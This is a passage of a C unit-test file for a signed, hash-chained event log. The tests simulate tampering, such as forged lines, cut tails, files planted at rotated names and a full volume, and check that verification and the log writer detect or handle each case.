	assert_int_equal(checkpoint_write(ck, "open"), 0);
	assert_int_equal(checkpoint_write(ck, "close"), 0);
	checkpoint_free(ck);
	eventlog_close(log);
	lines_read(&l, t->path);
	assert_int_equal(l.n, 12);
	lines_free(&l);
	resumed_untrusted(t, 9, 1, "closed the log at seq 7", 8);
}

/*
 * No new file can be made beside the anchor (as on a full volume): a
 * folder at the name of this process's reservation, tmp[192], with
 * inner[224] in it, so that nothing removes it.
 */
static void
room_blocked(struct tmp *t, char *tmp, char *inner)
{
	snprintf(tmp, 192, "%s.anchor.%ld.tmp", t->key, (long)getpid());
	snprintf(inner, 224, "%s/x", tmp);
	assert_int_equal(mkdir(tmp, 0700), 0);
	assert_int_equal(mkdir(inner, 0700), 0);
}

/*
 * A writer that cannot take the room for its anchor writes no checkpoint
 * (no close above all): the log never ends with a close its anchor does
 * not name. Once it can, it closes and the anchor names the close.
 */
static void
test_anchor_room(void **state)
{
	struct tmp		*t = *state;
	struct checkpoint	*ck;
	struct checkpoint_anchor a;
	struct eventlog		*log;
	struct lines		 l;
	char			 tmp[192], inner[224];
	size_t			 i;

	room_blocked(t, tmp, inner);	/* nothing removes it */
	log = open_signed(t, 100, 60, &ck);
	assert_int_equal(checkpoint_write(ck, "open"), -1);
	appends_refused(log, 3);	/* no event before the open */
	assert_int_equal(checkpoint_write(ck, "close"), -1);
	lines_read(&l, t->path);
	for (i = 0; i < l.n; i++)
		if (is_checkpoint(l.v[i]))
			fail_msg("line %zu: a checkpoint no anchor names: %s",
			    i + 1, l.v[i]);
	lines_free(&l);
	assert_int_equal(rmdir(inner), 0);
	assert_int_equal(rmdir(tmp), 0);
	assert_int_equal(checkpoint_write(ck, "close"), 0);
	checkpoint_free(ck);
	eventlog_close(log);
	anchor_of(t, &a);
	lines_read(&l, t->path);
	assert_int_equal(a.seq, (long long)l.n);
	assert_string_equal(a.reason, "close");
	assert_non_null(strstr(l.v[l.n - 1], "\"reason\":\"close\""));
	lines_free(&l);
	assert_int_equal(access(tmp, F_OK), -1);
}

/*
 * Append a line made of head (up to its prev) to the log at t->path with
 * the prev and hash that continue the chain, then tail (blanks after the
 * line): what whoever can write the file can add.
 */
static void
plant(struct tmp *t, const char *head, const char *tail)
{
	struct lines	 l;
	char		*line;

	lines_read(&l, t->path);
	assert_true(l.n < MAXLINES);
	util_xasprintf(&line, "%s,\"prev\":\"" Z64 "\",\"hash\":\"" Z64
	    "\"}", head);
	l.v[l.n++] = line;
	rechain(&l, l.n - 1);
	util_xasprintf(&l.v[l.n - 1], "%s%s", line, tail);
	free(line);
	lines_write(&l, t->path, 0, l.n);
	lines_free(&l);
}

/* The writer opens the log again, signs open and close. */
static void
reopen_and_close(struct tmp *t)
{
	open_close(t, 2);
}

/*
 * A writer that reopened its close and ended without a checkpoint (its
 * close did not fit: a full volume) leaves one line, seq 8, unsigned.
 * Untouched, the next writer takes it as a stop (a note). Rewritten, or
 * with a line added after it, the log no longer ends where the anchor
 * says the writer left it (tail=), and verify fails it.
 */
static void
reopened_left_only(struct tmp *t)
{
	struct checkpoint_anchor a;
	struct checkpoint	*ck;
	struct eventlog		*log;

	log = open_signed(t, 100, 60, &ck);
	append_n(log, 40, 1);			/* seq 8, reopens the close */
	checkpoint_free(ck);			/* no close: it did not fit */
	eventlog_close(log);
	anchor_of(t, &a);
	assert_true(a.reopened);
	assert_int_equal(a.tail_seq, 8);
}

/*
 * While the writer is stopped, the log after its tail (seq 8) is changed
 * by whoever can write the folder: 1 a line added after it, 2 seq 8
 * rewritten (the chain made again), 3 seq 8 cut; 0 untouched.
 */
static void
tail_tampered(struct tmp *t, int tamper)
{
	struct eventlog		*log;
	struct lines		 l;

	if (tamper == 1) {
		log = eventlog_open(t->dir, NAME, NULL, NULL);
		append_n(log, 50, 1);		/* seq 9, planted */
		eventlog_close(log);
	} else if (tamper == 2 || tamper == 3) {
		lines_read(&l, t->path);
		assert_int_equal(l.n, 8);
		edit_line(&l.v[7], "\"n\":40", "\"n\":47");
		rechain(&l, 7);
		lines_write(&l, t->path, 0, tamper == 2 ? l.n : 7);
		lines_free(&l);
	}
}

static void
reopened_left(struct tmp *t, int tamper)
{
	reopened_left_only(t);
	tail_tampered(t, tamper);
	reopen_and_close(t);
}

static void
test_reopened_left_tail(void **state)
{
	struct tmp		*t = *state;
	struct ckverify		 v;
	EVP_PKEY		*k;
	int			 tamper;

	for (tamper = 0; tamper < 3; tamper++) {
		k = signed_log(t, 100, 5, "close");	/* close at seq 7 */
		reopened_left(t, tamper);
		if (tamper == 0) {
			if (verify(t->path, k, NULL, now_us(), &v) !=
			    CKVERIFY_OK)
				fail_msg("%s", v.what);
			assert_int_equal(v.crashes, 1);
		} else {
			assert_int_equal(verify(t->path, k, NULL, now_us(), &v),
			    CKVERIFY_UNTRUSTED);
			assert_non_null(strstr(v.what, tamper == 1 ?
			    "follow the writer's close" :
			    "seq 8 is not the line the writer had left last"));
			assert_int_equal(v.untrusted.seq, 8);
		}
		EVP_PKEY_free(k);
		start_afresh(t);
	}
}

/*
 * Round 14, T1: the line the anchor's tail= names (seq 8, after the close
 * at 7) is deleted while the writer is stopped, cutting the log back to
 * the close. verify given the anchor names the cut; the next writer
 * records a log.resume naming the tail, and verify fails it.
 */
static void
test_tail_cut_to_close(void **state)
{
	struct tmp		*t = *state;
	struct checkpoint_anchor a;
	struct ckverify		 v;
	struct lines		 l;
	const char		*paths[1];
	EVP_PKEY		*k;

	paths[0] = t->path;
	k = signed_log(t, 100, 5, "close");	/* close at seq 7 */
	reopened_left_only(t);
	anchor_of(t, &a);
	lines_read(&l, t->path);
	assert_int_equal(l.n, 8);
	lines_write(&l, t->path, 0, 7);		/* seq 8 deleted */
	lines_free(&l);
	assert_int_equal(verify_with(paths, 1, k, &a, &v),
	    CKVERIFY_UNTRUSTED);
	assert_non_null(strstr(v.what, "seq 8 to 8 were cut"));
	reopen_and_close(t);
	lines_read(&l, t->path);
	assert_non_null(strstr(l.v[7], "\"log.resume\""));
	assert_non_null(strstr(l.v[7], "\"anchor_tail_seq\":8"));
	lines_free(&l);
	assert_int_equal(verify(t->path, k, NULL, now_us(), &v),
	    CKVERIFY_UNTRUSTED);
	assert_non_null(strstr(v.what, "seq 8 to 8 were cut"));
	anchor_of(t, &a);
	assert_int_equal(verify_with(paths, 1, k, &a, &v),
	    CKVERIFY_UNTRUSTED);
	EVP_PKEY_free(k);
}

/*
 * Round 14, T3/T4: the volume fills after a clean close (here through
 * RLIMIT_FSIZE), so the first line after it is written only in part. The
 * torn line is the writer's own: the anchor keeps the reopen, with the
 * close as its tail, and verify and the next writer take it as a stop,
 * not as a line someone else wrote after a close.
 */
static void
test_torn_first_line_after_close(void **state)
{
	struct tmp		*t = *state;
	struct checkpoint_anchor a;
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct ckverify		 v;
	struct rlimit		 rl, was;
	struct stat		 st;
	const char		*paths[1];
	EVP_PKEY		*k;

	paths[0] = t->path;
	k = signed_log(t, 100, 5, "close");	/* close at seq 7 */
	log = open_signed(t, 100, 60, &ck);
	assert_int_equal(stat(t->path, &st), 0);
	signal(SIGXFSZ, SIG_IGN);
	assert_int_equal(getrlimit(RLIMIT_FSIZE, &was), 0);
	rl = was;
	rl.rlim_cur = (rlim_t)st.st_size + 20;	/* 20 bytes of a line */
	assert_int_equal(setrlimit(RLIMIT_FSIZE, &rl), 0);
	refuse_truncate = t->path; /* else nothing of it stays (atk20r19 F1) */
	appends_refused(log, 1);
	refuse_truncate = NULL;
	assert_int_equal(setrlimit(RLIMIT_FSIZE, &was), 0);
	signal(SIGXFSZ, SIG_DFL);
	checkpoint_free(ck);
	eventlog_close(log);
	assert_int_equal(stat(t->path, &st), 0);
	assert_int_equal((rlim_t)st.st_size, rl.rlim_cur);
	anchor_of(t, &a);
	assert_true(a.reopened);
	assert_int_equal(a.tail_seq, 7);
	reopen_and_close(t);
	if (verify(t->path, k, NULL, now_us(), &v) != CKVERIFY_OK)
		fail_msg("after the next writer: %s", v.what);
	anchor_of(t, &a);
	if (verify_with(paths, 1, k, &a, &v) != CKVERIFY_OK)
		fail_msg("with its anchor: %s", v.what);
	EVP_PKEY_free(k);
}

/*
 * The next writer finds the log not ending at the tail, and its log.resume
 * (the line that would name the tail) does not go in, the volume full
 * (here through RLIMIT_FSIZE): 0 no byte of it, 1 part of it (torn), 2
 * as 0, and the writer dies before it ends (SIGKILL, in a child).
 */
static void
resume_refused(struct tmp *t, int how)
{
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct rlimit		 rl, was;
	struct stat		 st;
	pid_t			 pid = 0;
	int			 status;

	if (how == 2 && (pid = fork()) != 0) {
		assert_int_equal(waitpid(pid, &status, 0), pid);
		if (!WIFSIGNALED(status) || WTERMSIG(status) != SIGKILL)
			fail_msg("the writer was not killed (status %#x)",
			    status);
		return;
	}
	log = open_signed(t, 100, 60, &ck);
	assert_int_equal(stat(t->path, &st), 0);
	signal(SIGXFSZ, SIG_IGN);
	assert_int_equal(getrlimit(RLIMIT_FSIZE, &was), 0);
	rl = was;
	rl.rlim_cur = (rlim_t)st.st_size + (how == 1 ? 20 : 0);
	assert_int_equal(setrlimit(RLIMIT_FSIZE, &rl), 0);
	assert_int_equal(checkpoint_write(ck, "open"), -1);
	if (how == 2)
		raise(SIGKILL);
	assert_int_equal(setrlimit(RLIMIT_FSIZE, &was), 0);
	signal(SIGXFSZ, SIG_DFL);
	checkpoint_free(ck);
	eventlog_close(log);
}

/*
 * Round 15, F1/F2: the log after the anchor's tail is cut, rewritten or
 * added to, and the next writer's log.resume does not go in. The anchor
 * keeps the tail as read: the end the writer found is not a line it
 * wrote, so it never becomes its tail (before, a forged end was taken as
 * the writer's own and verify passed). verify given the anchor fails, and
 * so does verify after a clean writer.
 */
static void
test_tail_tampered_resume_refused(void **state)
{
	struct tmp		*t = *state;
	struct checkpoint_anchor a, left;
	struct ckverify		 v;
	const char		*paths[1];
	EVP_PKEY		*k;
	int			 tamper, how;

	paths[0] = t->path;
	for (tamper = 1; tamper <= 3; tamper++)
		for (how = 0; how < 3; how++) {
			k = signed_log(t, 100, 5, "close");	/* close 7 */
			reopened_left_only(t);		/* tail=8 */
			anchor_of(t, &left);
			tail_tampered(t, tamper);
			resume_refused(t, how);
			anchor_of(t, &a);
			if (!a.reopened || a.tail_seq != 8 ||
			    strcmp(a.tail_hash, left.tail_hash) != 0)
				fail_msg("tamper %d, resume %d: the anchor "
				    "names reopened=%d tail=%lld:%.12s", tamper,
				    how, a.reopened, a.tail_seq, a.tail_hash);
			/* (lines_read() takes no torn last line) */
			if (how != 1 && verify_with(paths, 1, k, &a, &v) ==
			    CKVERIFY_OK)
				fail_msg("tamper %d, resume %d: verify "
				    "with the anchor passed", tamper, how);
			reopen_and_close(t);
			if (verify(t->path, k, NULL, now_us(), &v) ==
			    CKVERIFY_OK)
				fail_msg("tamper %d, resume %d: verify after "
				    "a clean writer passed", tamper, how);
			anchor_of(t, &a);
			if (verify_with(paths, 1, k, &a, &v) == CKVERIFY_OK)
				fail_msg("tamper %d, resume %d: verify with "
				    "the next anchor passed", tamper, how);
			EVP_PKEY_free(k);
			start_afresh(t);
		}
}

/*
 * A whole line that jansson refuses (a \u0000) with a blank after it, as
 * other JSON parsers read it whole: not a torn line. verify breaks the
 * chain there, with and without keys, and the writer that opens the log
 * does not take it for its own end: it records a log.resume.
 */
static void
test_not_torn_with_blank(void **state)
{
	static const char *const blanks[] = { " ", "\r", "\t" };
	struct tmp		*t = *state;
	struct ckverify		 v;
	struct lines		 l;
	EVP_PKEY		*k;
	char			 anchor[160];
	size_t			 i;

	snprintf(anchor, sizeof(anchor), "%s.anchor", t->key);
	for (i = 0; i < 3; i++) {
		unlink(t->path);
		unlink(anchor);
		k = signed_log(t, 100, 3, "close");	/* close at 5 */
		plant(t, "{\"ts\":\"2026-12-01T00:00:00.000000Z\",\"seq\":6,"
		    "\"event\":\"egress.allowed\",\"host\":\"exfil.invalid\","
		    "\"note\":\"\\u0000\"", blanks[i]);
		assert_int_equal(verify(t->path, NULL, NULL, now_us(), &v),
		    CKVERIFY_CHAIN_BROKEN);
		assert_int_equal(v.chain.break_line, 6);
		assert_int_equal(verify(t->path, k, NULL, now_us(), &v),
		    CKVERIFY_CHAIN_BROKEN);
		reopen_and_close(t);
		lines_read(&l, t->path);
		assert_non_null(strstr(l.v[6], "\"event\":\"log.resume\""));
		lines_free(&l);
		assert_int_equal(verify(t->path, k, NULL, now_us(), &v),
		    CKVERIFY_CHAIN_BROKEN);
		assert_int_equal(v.chain.break_line, 6);
		EVP_PKEY_free(k);
	}
}

/*
 * A line planted with seq 2^63 - 1: not a log line (past 2^53 - 1). The
 * writer continues from the line before it, records a log.resume, never
 * overflows, and writes an anchor it can read back; at 2^53 - 1 it stops.
 */
static void
test_seq_overflow(void **state)
{
	struct tmp		*t = *state;
	struct checkpoint_anchor a;
	struct eventlog		*log;
	struct ckverify		 v;
	struct lines		 l;
	EVP_PKEY		*k;
	json_t			*f;
	size_t			 i;
	long long		 seq;

	k = signed_log(t, 100, 3, "close");	/* close at 5 */
	plant(t, "{\"ts\":\"2026-12-01T00:00:00.000000Z\",\"seq\":"
	    "9223372036854775807,\"event\":\"egress.blocked\"", "");
	reopen_and_close(t);
	lines_read(&l, t->path);
	assert_int_equal(l.n, 11);
	assert_non_null(strstr(l.v[6], "\"event\":\"log.resume\""));
	for (i = 0; i < l.n; i++) {
		if (i == 5)
			continue;
		seq = strtoll(strstr(l.v[i], "\"seq\":") + 6, NULL, 10);
		assert_int_equal(seq, (long long)i + (i > 5 ? 0 : 1));
	}
	lines_free(&l);
	anchor_of(t, &a);
	assert_int_equal(a.seq, 10);
	assert_int_equal(verify(t->path, k, NULL, now_us(), &v),
	    CKVERIFY_CHAIN_BROKEN);
	assert_int_equal(v.chain.break_line, 6);
	/* A log whose chain reaches 2^53 - 1: the writer adds nothing more. */
	assert_int_equal(truncate(t->path, 0), 0);
	plant(t, "{\"ts\":\"2026-12-01T00:00:00.000000Z\",\"seq\":"
	    "9007199254740990,\"event\":\"egress.blocked\"", "");
	plant(t, "{\"ts\":\"2026-12-01T00:00:00.000000Z\",\"seq\":"
	    "9007199254740991,\"event\":\"egress.blocked\"", "");
	log = eventlog_open(t->dir, NAME, NULL, NULL);
	assert_non_null(log);
	assert_int_equal(eventlog_seq(log), 9007199254740991LL);
	f = json_pack("{s:s}", "event", "egress.blocked");
	assert_int_equal(eventlog_append(log, f), -1);
	assert_int_equal(errno, EOVERFLOW);
	json_decref(f);
	eventlog_close(log);
	lines_read(&l, t->path);
	assert_int_equal(l.n, 2);
	lines_free(&l);
	EVP_PKEY_free(k);
}

/* The seq of line i of l. */
static long long
seq_of(const struct lines *l, size_t i)
{
	return strtoll(strstr(l->v[i], "\"seq\":") + 6, NULL, 10);
}

/*
 * Lines planted at the end of a closed log with seqs just under 2^53
 * that do not follow its last line (one line, or a run longer than the
 * first tail window): the writer does not take them for its end. It
 * continues from the close (log.resume), keeps writing and closes; on
 * its next start it continues from its own close. verify reports them.
 */
static void
test_seq_planted_near_bound(void **state)
{
	static const long long	 from[] = { 9007199254740991LL,
				    9007199254740989LL, 9007199254740952LL };
	struct tmp		*t = *state;
	struct checkpoint_anchor a;
	struct ckverify		 v;
	struct lines		 l;
	EVP_PKEY		*k = NULL;
	char			 head[160];
	size_t			 c, i, n;
	long long		 s;

	for (c = 0; c < sizeof(from) / sizeof(from[0]); c++) {
		if (c > 0) {
			unlink(t->path);
			snprintf(head, sizeof(head), "%s.anchor", t->key);
			unlink(head);
			EVP_PKEY_free(k);
		}
		k = signed_log(t, 100, 3, "close");	/* close at 5 */
		for (s = from[c]; s <= SG_LOG_SEQ_MAX; s++) {
			snprintf(head, sizeof(head), "{\"ts\":\"2026-12-01T"
			    "00:00:00.000000Z\",\"seq\":%lld,\"event\":"
			    "\"egress.allowed\",\"host\":\"ovf.invalid\"", s);
			plant(t, head, "");
		}
		n = (size_t)(SG_LOG_SEQ_MAX - from[c] + 1);
		reopen_and_close(t);
		lines_read(&l, t->path);
		assert_int_equal(l.n, 5 + n + 5);
		assert_non_null(strstr(l.v[5 + n], "\"event\":\"log.resume\""));
		assert_non_null(strstr(l.v[5 + n], "\"found_seq\":5,"));
		for (i = 0; i < 5; i++)
			assert_int_equal(seq_of(&l, 5 + n + i), 6 + (long long)i);
		lines_free(&l);
		anchor_of(t, &a);
		assert_int_equal(a.seq, 10);
		assert_int_equal(verify(t->path, k, NULL, now_us(), &v),
		    CKVERIFY_CHAIN_BROKEN);
		assert_int_equal(v.chain.break_line, 6);
		/* Started again: its own close is its end, nothing skipped. */
		reopen_and_close(t);
		lines_read(&l, t->path);
		assert_int_equal(l.n, 5 + n + 9);
		assert_int_equal(seq_of(&l, l.n - 1), 14);
		assert_null(strstr(l.v[l.n - 4], "log.resume"));
		lines_free(&l);
		anchor_of(t, &a);
		assert_int_equal(a.seq, 14);
	}
	EVP_PKEY_free(k);
}

/* A new key (its public half returned) and the names name.1 .. name.n. */
static EVP_PKEY *
rotating_key(struct tmp *t, char (*rot)[160], size_t n)
{
	char	pub[160], *cause = NULL;
	size_t	i;

	assert_int_equal(checkpoint_key_create(t->key, (uid_t)-1, (gid_t)-1,
	    &cause), 0);
	snprintf(pub, sizeof(pub), "%s.pub", t->key);
	for (i = 0; i < n; i++)
		snprintf(rot[i], sizeof(rot[i]), "%s.%zu", t->path, i + 1);
	return pubkey(pub);
}

/* Events appended one at a time until path exists (at most 200). */
static void
append_until(struct eventlog *log, const char *path)
{
	int	n;

	for (n = 0; n < 200 && access(path, F_OK) == -1; n++)
		append_n(log, n, 1);
	assert_int_equal(access(path, F_OK), 0);
}

/* The log opened with lo, a signer on t->key, its open checkpoint. */
static struct eventlog *
rotating_open(struct tmp *t, const struct eventlog_opts *lo,
    struct checkpoint **ck)
{
	struct checkpoint_opts	 o = { .key_path = t->key,
				    .every_events = 100, .every_secs = 60 };
	struct eventlog		*log;
	char			*cause = NULL;

	log = eventlog_open(t->dir, NAME, lo, &cause);
	assert_non_null(log);
	*ck = checkpoint_new(log, &o, &cause);
	assert_non_null(*ck);
	assert_int_equal(checkpoint_write(*ck, "open"), 0);
	return log;
}

/* The close checkpoint, the log closed, and the anchor it left in *a. */
static void
rotating_close(struct tmp *t, struct eventlog *log, struct checkpoint *ck,
    struct checkpoint_anchor *a)
{
	assert_int_equal(checkpoint_write(ck, "close"), 0);
	checkpoint_free(ck);
	eventlog_close(log);
	anchor_of(t, a);
}

/*
 * Rotated files deleted by someone else, even while fewer than keep
 * exist, look like files rotated away; the anchor says from which seq the
 * writer keeps the log, also across a restart. Files the writer deletes
 * itself (past keep) move that seq on.
 */
static void
test_rotated_files_removed(void **state)
{
	struct tmp		*t = *state;
	struct eventlog_opts	 lo = { .max_size = 3000, .keep = 10 };
	struct checkpoint_anchor a;
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct ckverify		 v;
	char			 rot[10][160], pub[160];
	const char		*paths[11], *const *left;
	EVP_PKEY		*k;
	size_t			 n, i;
	int			 round;

	k = rotating_key(t, rot, 10);
	for (round = 0; round < 2; round++) {
		log = rotating_open(t, &lo, &ck);
		if (round == 0)
			append_n(log, 0, 60);
		rotating_close(t, log, ck, &a);
		assert_int_equal(a.first, 1);
		/* The files, oldest first: name.N ... name.1, name. */
		for (n = 0; n < 10 && access(rot[n], F_OK) == 0; n++)
			;
		assert_true(n >= 2 && n < 10);
		for (i = 0; i < n; i++)
			paths[i] = rot[n - 1 - i];
		paths[n] = t->path;
		left = paths;
		if (round == 0) {
			if (verify_with(paths, n + 1, k, &a, &v) !=
			    CKVERIFY_OK)
				fail_msg("%s", v.what);
			assert_int_equal(unlink(paths[0]), 0);
			left = paths + 1;	/* the oldest removed */
			n--;
		}
		assert_int_equal(verify_with(left, n + 1, k, NULL, &v),
		    CKVERIFY_OK);
		assert_int_equal(verify_with(left, n + 1, k, &a, &v),
		    CKVERIFY_UNTRUSTED);
		if (strstr(v.what, "says it keeps the log from seq 1") == NULL)
			fail_msg("round %d: %s", round, v.what);
		assert_int_equal(v.untrusted.seq, 1);
	}
	/* The writer deletes past keep itself: the anchor moves on. */
	for (i = 0; i < 10; i++)
		unlink(rot[i]);
	unlink(t->path);
	snprintf(pub, sizeof(pub), "%s.anchor", t->key);
	unlink(pub);
	lo.keep = 1;
	log = rotating_open(t, &lo, &ck);
	append_n(log, 0, 60);
	rotating_close(t, log, ck, &a);
	assert_true(a.first > 1);
	assert_int_equal(access(rot[1], F_OK), -1);
	paths[0] = rot[0];
	paths[1] = t->path;
	if (verify_with(paths, 2, k, &a, &v) != CKVERIFY_OK)
		fail_msg("%s", v.what);
	EVP_PKEY_free(k);
}

/*
 * Files planted among the rotated names, empty or not a log, are not the
 * log's: the writer does not rotate onto them, delete them or take its
 * first seq from them (it writes on in its file). Its anchor still says
 * it keeps the log from seq 1, so deleting its real rotated file after
 * the planted ones fails verify --key.
 */
static void
test_rotated_files_planted(void **state)
{
	struct tmp		*t = *state;
	struct eventlog_opts	 lo = { .max_size = 3000, .keep = 10 };
	struct checkpoint_anchor a;
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct ckverify		 v;
	struct stat		 st1, st2;
	char			 rot[11][160];
	const char		*paths[1];
	EVP_PKEY		*k;
	FILE			*f;
	size_t			 i;

	k = rotating_key(t, rot, 11);
	log = rotating_open(t, &lo, &ck);
	append_until(log, rot[0]);
	assert_int_equal(access(rot[1], F_OK), -1);
	/* Whoever writes the folder: a non-log file, then empty ones. */
	assert_non_null(f = fopen(rot[1], "w"));
	fputs("not a log line\n", f);
	fclose(f);
	for (i = 2; i < 10; i++) {
		assert_non_null(f = fopen(rot[i], "w"));
		fclose(f);
	}
	assert_int_equal(stat(rot[0], &st1), 0);
	append_n(log, 100, 60);
	rotating_close(t, log, ck, &a);
	assert_int_equal(a.first, 1);
	assert_int_equal(stat(rot[0], &st2), 0);
	assert_true(st1.st_ino == st2.st_ino && st1.st_size == st2.st_size);
	assert_int_equal(stat(rot[1], &st2), 0);
	assert_int_equal(st2.st_size, 15);
	assert_int_equal(access(rot[10], F_OK), -1);
	for (i = 0; i < 10; i++)
		assert_int_equal(unlink(rot[i]), 0);
	paths[0] = t->path;
	assert_int_equal(verify_with(paths, 1, k, &a, &v),
	    CKVERIFY_UNTRUSTED);
	if (strstr(v.what, "says it keeps the log from seq 1") == NULL)
		fail_msg("%s", v.what);
	EVP_PKEY_free(k);
}

/* A log line of seq with prev and its hash computed (caller frees). */
static char *
forged(long long seq, const char *prev)
{
	char	*line, hash[LOGVERIFY_HASH_HEX + 1];
	size_t	 len;

	util_xasprintf(&line, "{\"ts\":\"2026-12-01T00:00:00.000000Z\","
	    "\"seq\":%lld,\"event\":\"egress.blocked\",\"host\":"
	    "\"f.invalid\",\"prev\":\"%.64s\",\"hash\":\"" Z64 "\"}", seq,
	    prev);
	len = strlen(line);
	assert_int_equal(logverify_hash(line, len, hash), 0);
	memcpy(line + HASH_AT(len), hash, LOGVERIFY_HASH_HEX);
	return line;
}

/* Write the lines v[0 .. n) to path. */
static void
write_lines(const char *path, char *const *v, size_t n)
{
	FILE	*f = fopen(path, "wb");
	size_t	 i;

	assert_non_null(f);
	for (i = 0; i < n; i++)
		fprintf(f, "%s\n", v[i]);
	fclose(f);
}

/*
 * A log closed at seq 5 whose base lines end with lines planted after
 * the close: the writer continues from its close (a log.resume as line
 * base, found_seq 5), writes and closes at seq 10, and at its next start
 * continues from its own close.
 */
static void
resumed_from_close(struct tmp *t, size_t base)
{
	struct checkpoint_anchor a;
	struct lines		 l;

	reopen_and_close(t);
	lines_read(&l, t->path);
	assert_int_equal(l.n, base + 5);
	assert_non_null(strstr(l.v[base], "\"event\":\"log.resume\""));
	assert_non_null(strstr(l.v[base], "\"found_seq\":5,"));
	assert_int_equal(seq_of(&l, base), 6);
	assert_int_equal(seq_of(&l, l.n - 1), 10);
	lines_free(&l);
	anchor_of(t, &a);
	assert_int_equal(a.seq, 10);
	/* Started again: it continues from its own close. */
	reopen_and_close(t);
	lines_read(&l, t->path);
	assert_int_equal(seq_of(&l, l.n - 1), 14);
	lines_free(&l);
}

/*
 * Three lines planted at the end of a closed log: P1 (seq 2^53 - 2,
 * following the close), a copy of the close or a line whose hash does
 * not verify, and P2 (seq 2^53 - 1, prev the hash of P1), also with the
 * file past the first tail window. P2 follows only P1, which follows
 * nothing the writer wrote: the writer continues from its close
 * (log.resume), keeps writing and closes.
 */
static void
test_seq_planted_linked(void **state)
{
	struct tmp		*t = *state;
	struct lines		 l;
	EVP_PKEY		*k = NULL;
	char			*p1, *mid, *p2, *pad, anchor[160];
	int			 c;

	snprintf(anchor, sizeof(anchor), "%s.anchor", t->key);
	for (c = 0; c < 3; c++) {
		if (c > 0) {
			unlink(t->path);
			unlink(anchor);
			EVP_PKEY_free(k);
		}
		k = signed_log(t, 100, 3, "close");	/* close at 5 */
		lines_read(&l, t->path);
		assert_int_equal(l.n, 5);
		p1 = forged(SG_LOG_SEQ_MAX - 1, l.v[4] + HASH_AT(strlen(
		    l.v[4])));
		if (c == 1)
			mid = forged(5, Z64);		/* does not verify */
		else
			mid = strdup(l.v[4]);		/* the close, copied */
		assert_non_null(mid);
		if (c == 1)
			memset(mid + HASH_AT(strlen(mid)), 'a', 8);
		p2 = forged(SG_LOG_SEQ_MAX, p1 + HASH_AT(strlen(p1)));
		pad = malloc(9000);
		assert_non_null(pad);
		memset(pad, 'x', 8999);
		pad[8999] = '\0';
		l.v[5] = p1;
		l.v[6] = mid;
		l.v[7] = c == 2 ? pad : p2;
		l.v[8] = p2;
		l.n = c == 2 ? 9 : 8;
		write_lines(t->path, l.v, l.n);
		if (c != 2)
			free(pad);
		lines_free(&l);
		resumed_from_close(t, c == 2 ? 9 : 8);
	}
	EVP_PKEY_free(k);
}

/*
 * Files planted at the rotated names that start with a copy of the
 * writer's own first line (the oldest one past the first tail window
 * and ending with a line of seq 10^12), and one that starts with a line
 * of seq 2^53 - 100: none of them is the writer's. It neither rotates
 * onto them nor deletes them, and its anchor still says it keeps the log
 * from seq 1, also after a restart with them there; deleting its real
 * rotated file with them fails verify --key.
 */
static void
test_rotated_files_copied(void **state)
{
	struct tmp		*t = *state;
	struct eventlog_opts	 lo = { .max_size = 3000, .keep = 10 };
	struct checkpoint_anchor a;
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct ckverify		 v;
	struct lines		 l;
	struct stat		 st1, st2;
	char			 rot[11][160], *v10[102], xs[101];
	const char		*paths[1];
	EVP_PKEY		*k;
	size_t			 i;
	int			 round;

	k = rotating_key(t, rot, 11);
	log = rotating_open(t, &lo, &ck);
	append_until(log, rot[0]);
	lines_read(&l, rot[0]);
	assert_int_equal(seq_of(&l, 0), 1);
	memset(xs, 'x', 100);
	xs[100] = '\0';
	v10[0] = l.v[0];
	for (i = 1; i <= 100; i++)
		v10[i] = xs;
	v10[101] = forged(1000000000000LL, Z64);
	write_lines(rot[9], v10, 102);
	free(v10[101]);
	v10[1] = forged(SG_LOG_SEQ_MAX - 100, Z64);
	write_lines(rot[8], v10 + 1, 1);
	free(v10[1]);
	for (i = 1; i < 8; i++)
		write_lines(rot[i], l.v, 1);
	lines_free(&l);
	assert_int_equal(stat(rot[0], &st1), 0);
	for (round = 0; round < 2; round++) {
		if (round == 1)
			log = rotating_open(t, &lo, &ck);
		append_n(log, 100, 60);
		rotating_close(t, log, ck, &a);
		if (a.first != 1)
			fail_msg("round %d: the anchor says first=%lld", round,
			    a.first);
		assert_int_equal(stat(rot[0], &st2), 0);
		assert_true(st1.st_ino == st2.st_ino &&
		    st1.st_size == st2.st_size);
		for (i = 1; i < 10; i++)
			assert_int_equal(access(rot[i], F_OK), 0);
		assert_int_equal(access(rot[10], F_OK), -1);
	}
	for (i = 0; i < 10; i++)
		assert_int_equal(unlink(rot[i]), 0);
	paths[0] = t->path;
	assert_int_equal(verify_with(paths, 1, k, &a, &v),
	    CKVERIFY_UNTRUSTED);
	if (strstr(v.what, "says it keeps the log from seq 1") == NULL)
		fail_msg("%s", v.what);
	EVP_PKEY_free(k);
}

/*
 * Hard links to a copy of the writer's first line at name.2 ..
 * name.SG_LOG_ROTATED_MAX: the writer keeps logging in its file (the
 * rotation is in the way of files not its own), deletes none of them,
 * and opens the log again with them there.
 */
static void
test_rotated_files_linked(void **state)
{
	struct tmp		*t = *state;
	struct eventlog_opts	 lo = { .max_size = 3000, .keep = 10 };
	struct checkpoint_anchor a;
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct lines		 l;
	struct stat		 st;
	char			 rot[1][160], seed[2][160], p[200];
	EVP_PKEY		*k;
	unsigned		 i;
	int			 round;

	k = rotating_key(t, rot, 1);
	log = rotating_open(t, &lo, &ck);
	append_until(log, rot[0]);
	lines_read(&l, rot[0]);
	for (i = 0; i < 2; i++) {	/* ext4: 65000 links a file */
		snprintf(seed[i], sizeof(seed[i]), "%s/seed%u", t->keys, i);
		write_lines(seed[i], l.v, 1);
	}
	lines_free(&l);
	for (i = 2; i <= SG_LOG_ROTATED_MAX; i++) {
		snprintf(p, sizeof(p), "%s.%u", t->path, i);
		assert_int_equal(link(seed[i % 2], p), 0);
	}
	for (round = 0; round < 2; round++) {
		if (round == 1)
			log = rotating_open(t, &lo, &ck);
		append_n(log, 100, 60);
		assert_true(eventlog_healthy(log));
		rotating_close(t, log, ck, &a);
		assert_int_equal(a.first, 1);
		assert_int_equal(stat(seed[0], &st), 0);
		assert_int_equal(st.st_nlink, 1 + SG_LOG_ROTATED_MAX / 2);
		assert_int_equal(stat(seed[1], &st), 0);
		assert_int_equal(st.st_nlink, SG_LOG_ROTATED_MAX / 2);
	}
